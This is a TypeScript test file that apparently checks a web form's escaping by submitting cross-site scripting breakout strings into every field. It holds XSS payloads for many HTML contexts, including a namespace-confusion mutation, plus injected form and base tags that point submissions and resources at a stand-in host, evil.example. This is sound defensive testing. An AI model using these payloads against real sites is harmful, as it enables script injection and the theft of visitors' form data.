import { type CallName, calls, callWith, exampleOf } from '../calls.ts';
import { eachInFreeFields, textInEveryField } from '../every-field.ts';
import { type Family, type HostileCase, rejected } from '../hostile-case.ts';

/** One for each context in which text can appear in a page. */
const breakouts: Readonly<Record<string, string>> = {
  'an escape from an element': '<script>alert(1)</script>',
  'an escape from a double-quoted attribute': '" autofocus onfocus=alert(1) x="',
  'an escape from a single-quoted attribute': "' autofocus onfocus='alert(1)",
  'an escape from a textarea': '</textarea><img src=x onerror=alert(1)>',
  'an escape from a title': '</title><svg/onload=alert(1)>',
  'an escape from a script': '</script><script>alert(1)</script>',
  'an escape from a comment': '--><script>alert(1)</script><!--',
  escapes: '&lt;script&gt;&#34;&#x3c;script>',
  'an unterminated tag': '<iframe src="https://evil.example/',
  'an escape from a template':
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'nested tags': '<<script>script>alert(1)<</script>/script>',
  'another namespace': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'an injected form': '</form><form action=https://evil.example/><button>Send</button>',
  'an injected base':
    '<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/">',
  'dollar signs': "$& $` $' $1 $<name>",
  'a javascript: URL': 'javascript:alert(1)//',
};

const call: CallName = 'form';

/** The form is rejected because of the email address; other values are prefilled. */
const comeBack: HostileCase[] = Object.keys(calls[call].fields)
  .filter((field) => field !== 'email')
  .flatMap((field) =>
    Object.entries({
      'an escape from an element': '"></textarea><script>alert(1)</script>',
      'an escape from an attribute': `'" autofocus onfocus=alert(1) x="`,
    }).map(([label, text]) => ({
      name: `${label} in ${field} of a rejected form`,
      wire: (visitor: string) =>
        callWith(call, visitor, { [field]: `${exampleOf(call, field, visitor)}${text}`, email: 'jordan@' }),
      expected: rejected(422, { field: { call, name: 'email' } }),
    })),
  );

const allAtOnce: HostileCase[] = Object.entries(breakouts).map(([label, text]) => ({
  name: `${label} in all fields of a rejected form`,
  wire: (visitor) => {
    const names = Object.keys(calls[call].fields).filter((name) => name !== 'formId');
    return callWith(call, visitor, Object.fromEntries(names.map((name) => [name, text])));
  },
  expected: rejected(422, { field: { call, name: 'email' } }),
}));

export const scripts: Family = {
  name: 'scripts',
  cases: [
    ...textInEveryField('a script', '"><script>alert(1)</script>'),
    ...textInEveryField('a handler', `'" onerror=alert(1) x="`),
    ...eachInFreeFields(breakouts),
    ...comeBack,
    ...allAtOnce,
  ],
};
